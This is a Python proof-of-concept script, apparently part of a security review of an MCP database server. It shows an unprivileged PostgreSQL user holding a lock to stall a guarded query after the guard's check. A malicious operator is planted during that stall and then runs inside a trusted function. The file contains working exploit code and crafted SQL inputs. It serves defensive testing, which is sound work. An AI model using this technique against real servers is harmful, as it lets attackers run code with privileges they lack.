"""attack2 / F14: a hold with no privilege at all. The guard allows the size functions
(pg_relation_size, pg_total_relation_size, pg_table_size, pg_indexes_size: HARMLESS_VOLATILE)
on an oid computed at run time; they open the relation with AccessShareLock, which the guard
never took. An attacker's `LOCK TABLE` on its own table (no privilege needed) therefore holds
the server's statement in the executor, after the check, for as long as it likes (bounded by
the statement timeout). That is the precondition of F3 which the ownership rule was believed
to leave only to owners/MAINTAIN (docs/security.md, "Not locked before the check"): a trusted
SQL function's body is parsed after the hold, and an operator planted meanwhile runs in it.
Needs custom_body.py's fixture (public.fine_count, public.mood).
TOOL=sample: the same through get_sample_rows' where_clause (an initplan holds, then the body).
Usage: PYTHONPATH=tests:security-review uv run python security-review/hold_size.py [reader|postgres]"""
import asyncio, json, os, sys, time
import asyncpg
from mcpclient import connect
from common import DSN, as_role, tool
from custom_body import ADMIN, ATK

SQL = ("SELECT s.sz, public.fine_count() AS {n} FROM (SELECT pg_catalog.pg_relation_size(c.oid) AS sz "
       "FROM pg_catalog.pg_class c WHERE c.relname = 'zz_size_hold' OFFSET 0) s")

async def main(role: str) -> None:
    adm = await asyncpg.connect(DSN); await adm.execute(ADMIN)
    a = await asyncpg.connect(as_role("attacker"))
    await a.execute("DROP OPERATOR IF EXISTS public.= (public.mood, public.mood); DROP TABLE IF EXISTS public.zz_size_hold; CREATE TABLE public.zz_size_hold (x int)")
    b = await asyncpg.connect(as_role("attacker"))
    server_role = "postgres" if role == "postgres" else role
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        ok, body = await tool(c, "execute_query", sql=SQL.format(n="n"))
        print("baseline:", ok, json.dumps(body.get("rows", body))[:200])
        await a.execute("BEGIN; LOCK TABLE public.zz_size_hold IN ACCESS EXCLUSIVE MODE")
        if os.environ.get("TOOL") == "sample":
            call = asyncio.create_task(tool(c, "get_sample_rows", table_name="feelings", where_clause=(
                "(SELECT pg_catalog.pg_relation_size(c.oid) FROM pg_catalog.pg_class c "
                "WHERE c.relname = 'zz_size_hold') >= 0 AND public.fine_count() > 0")))
        else:
            call = asyncio.create_task(tool(c, "execute_query", sql=SQL.format(n="n_fresh")))
        t0 = time.monotonic(); waiting = None
        while time.monotonic() - t0 < 10 and not waiting:
            waiting = await adm.fetchrow(
                "SELECT a.pid, l.relation::regclass::text AS rel, l.mode FROM pg_stat_activity a JOIN pg_locks l ON l.pid = a.pid "
                "WHERE a.usename = $1 AND a.wait_event_type = 'Lock' AND NOT l.granted", server_role)
            await asyncio.sleep(0.01)
        print("server backend waiting:", dict(waiting) if waiting else None)
        await b.execute(ATK)  # public.=(mood, mood) -> atk.mood_eq, which raises PWNED
        print("planted public.=(mood, mood), committed")
        await a.execute("COMMIT")
        ok, body = await call
        print("call:", ok, json.dumps(body.get("error", body.get("rows", body)))[:300])
    await b.execute("DROP OPERATOR IF EXISTS public.= (public.mood, public.mood); DROP TABLE IF EXISTS public.zz_size_hold")
    for x in (a, b, adm): await x.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader"))
